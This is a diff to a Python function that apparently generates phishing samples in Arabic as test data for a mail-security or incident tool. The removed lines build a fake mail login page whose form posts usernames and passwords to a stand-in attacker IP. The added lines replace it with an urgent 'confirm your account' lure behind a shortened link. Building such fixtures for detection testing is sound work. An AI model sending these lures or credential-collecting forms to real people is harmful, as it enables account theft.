@@ -43,12 +43,13 @@ def invoice(run: str) -> str:
 
 
 def phish(run: str) -> bytes:
-    """A page that asks for the password, at an address by number, in Arabic: the same for every target of a run."""
+    """A hurried request in Arabic to confirm the account at a shortened address: the same for every target of a run.
+
+    The library tags it and does not hold it: so there are people who already have it, whom the incident must list.
+    """
     return f"""<html dir="rtl"><body>
-<p>عاجل: سيتم تعليق حسابك خلال 24 ساعة. يرجى تأكيد كلمة المرور فورا لتجنب إيقاف البريد. {run}</p>
-<p><a href="http://203.0.113.66/{run}/login">https://mail.finance.saba.example/login</a></p>
-<form action="http://203.0.113.66/{run}/collect" method="post">
-<input name="user"><input type="password" name="password"><input type="submit" value="تأكيد"></form>
+<p>عاجل: سيتم تعليق صندوق البريد خلال 24 ساعة. يرجى تأكيد حسابك على الرابط: <a href="https://bit.ly/{run}">اضغط هنا</a></p>
+<p>قسم الدعم الفني، الرقم المرجعي {run}</p>
 </body></html>
 """.replace("\n", "\r\n").encode()
 
